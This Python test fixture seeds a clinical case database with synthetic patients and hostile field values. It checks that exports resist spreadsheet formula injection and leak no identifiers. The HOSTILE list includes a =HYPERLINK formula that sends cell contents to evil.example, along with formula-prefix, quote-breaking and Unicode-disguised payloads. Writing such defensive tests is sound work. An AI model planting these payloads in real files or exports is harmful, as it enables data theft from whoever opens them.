"""Cases seeded with hostile values: formula prefixes, a quote-breaking payload, leading
spaces and zero-width characters before `=`, right-to-left overrides, quotes and newlines
inside notes, and non-Latin names. Also the identifiers a de-identified export must never
contain, so tests can search the file for each of them."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date, datetime, timedelta

from sqlmodel import Session

from core.models import Case, CaseEvent, Patient, Team, User
from core.validation import search_key
from core.vocab import Role
from tests.factories import make_team, make_user

HOSTILE = [
    '=1+2";=1+2',
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1",
    "\rCR=1",
    "\nLF=1",
    "   =1+2",
    "\u200b=1+2",
    "\ufeff\u200d@cmd",
    "\u202e=1+2",  # RLO in front of a formula
    "\u00a0-3+3",  # no-break space
    "\uff1d1+2",  # full-width equals
]
NON_LATIN = [("李", "小龙"), ("Ольга", "Иванова"), ("محمد", "الأحمد"), ("Zoë", "Ñúñez")]
NOTE = 'First line, "quoted"\nsecond line; =not a formula here\r\nthird line'


@dataclass
class Hostile:
    team_a: int
    team_b: int
    manager_a: User
    coordinator_a: User
    admin: User
    cases: list[int] = field(default_factory=list)
    identifiers: list[str] = field(default_factory=list)


def seed_hostile(session: Session, now: datetime) -> Hostile:
    team_a = make_team(session, now=now, name="Team =A")
    team_b = make_team(session, now=now, name="Team B")
    out = Hostile(
        team_a=team_a.id, team_b=team_b.id,
        manager_a=make_user(session, now=now, team=team_a, role=Role.MANAGER,
                            username="mgr_a"),
        coordinator_a=make_user(session, now=now, team=team_a, username="coord_a"),
        admin=make_user(session, now=now, team=None, role=Role.ADMIN, username="root"),
    )
    names = [(h, f"Last{h}") for h in HOSTILE] + NON_LATIN
    for i, (first, last) in enumerate(names):
        team: Team = team_a if i % 4 else team_b
        mrn = f"MRN-{9100 + i}"
        phone = f"+1 617 555 {1000 + i:04d}"
        email = f"patient{i}@mail.example"
        address = f"{100 + i} Hostile Street"
        zip_code = f"{10000 + 37 * i:05d}-{i:04d}"
        dob = date(1950 + i, 1 + i % 12, 1 + i % 27)
        member = f"MBR{77000 + i}"
        auth = f"AUTH{88000 + i}"
        patient = Patient(mrn=mrn, first_name=first, last_name=last,
                          search_name=search_key(f"{first} {last}"), date_of_birth=dob,
                          phone=phone, email=email, address_line=address, city="Springfield",
                          region="MA", zip_code=zip_code, created_at=now)
        session.add(patient)
        session.flush()
        assessed = now - timedelta(days=30 + i, hours=i)
        hostile = HOSTILE[i % len(HOSTILE)]
        closed = i % 5 == 0
        case = Case(
            patient_id=patient.id, team_id=team.id,
            assignee_id=out.coordinator_a.id if team is team_a else None,
            state="closed" if closed else ["referral", "records_requested", "seen"][i % 3],
            diagnosis_category="invasive", assessed_at=assessed, state_entered_at=assessed,
            created_at=assessed, updated_at=assessed,
            # one biopsy after the assessment: a negative duration must stay a number
            biopsy_date=(assessed + timedelta(days=3)).date() if i == 1
            else (assessed - timedelta(days=12)).date(),
            insurer=hostile, insurance_member_id=member, authorization_number=auth,
            second_opinion_reasons=hostile, biopsy_facility=hostile,
            imaging_facility=f"Imaging {hostile}", candidacy_reasons=NOTE,
            outcome_sources=hostile if i % 3 == 2 else None,
            close_reason="other" if closed else None,
            close_note=(NOTE + " " + hostile) if closed else None,
            closed_from_state="referral" if closed else None,
            no_show_count=i % 3,
        )
        session.add(case)
        session.flush()
        out.cases.append(case.id)
        session.add(CaseEvent(case_id=case.id, from_state=None, to_state="referral",
                              at=assessed, version=1, reason=hostile, team_id=case.team_id))
        session.add(CaseEvent(case_id=case.id, from_state="referral", to_state=case.state,
                              at=assessed + timedelta(days=2, hours=3),
                              days_in_from_state=2.125, version=2, reason=NOTE,
                              team_id=case.team_id))
        out.identifiers += [mrn, phone, email, address, zip_code, zip_code[:5], dob.isoformat(),
                            member, auth, f"Last{hostile}".strip()]
        if (first, last) in NON_LATIN:
            out.identifiers += [first, last]
        out.identifiers.append(assessed.date().isoformat())
    session.flush()
    return out
